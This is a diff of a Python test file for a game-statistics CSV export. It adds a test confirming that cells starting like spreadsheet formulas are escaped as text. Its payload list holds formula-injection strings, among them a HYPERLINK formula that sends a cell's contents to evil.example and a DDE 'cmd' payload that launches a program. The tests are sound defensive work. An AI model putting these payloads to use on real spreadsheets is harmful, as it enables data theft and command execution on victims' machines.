@@ -94,9 +94,27 @@ def test_summary_on_the_play_and_on_the_draw_and_games_whose_side_is_not_known()
 
 def test_csv_export_has_one_row_per_game_and_says_play_or_draw() -> None:
     records = [record(), record(B, times=(1, 2), on_play=False), record(on_play=None)]
-    rows = list(csv.reader(io.StringIO(to_csv(records))))
+    rows = list(csv.reader(io.StringIO(to_csv(records), newline="")))
     assert rows[0][:3] == ["deck", "session", "at"] and rows[0][-1] == "play_draw" and len(rows) == 4
     assert rows[2][-2] == "1 2" and [r[-1] for r in rows[1:]] == ["play", "draw", ""]
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+            "\t=1+1", "\r=1+1", "\uff1d1+1"]  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_export_never_writes_a_cell_a_spreadsheet_runs(formula: str) -> None:
+    """Stored statistics are untrusted (every project site of a GitHub user shares one origin):
+    a deck or session key that reads as a formula is written as text."""
+    raw = dump_stats([record()]).replace(f'"{record().deck}"', json.dumps(formula[:40]), 1)
+    records = load_stats(raw)
+    assert records[0].deck == formula[:40]
+    rows = list(csv.reader(io.StringIO(to_csv(records), newline="")))
+    assert len(rows) == 2, rows  # no line break starts a row of its own
+    for row in rows:
+        assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for cell in row), row
+    assert rows[1][0].startswith("'")
 
 
 def test_storage_round_trip_and_the_cap() -> None:
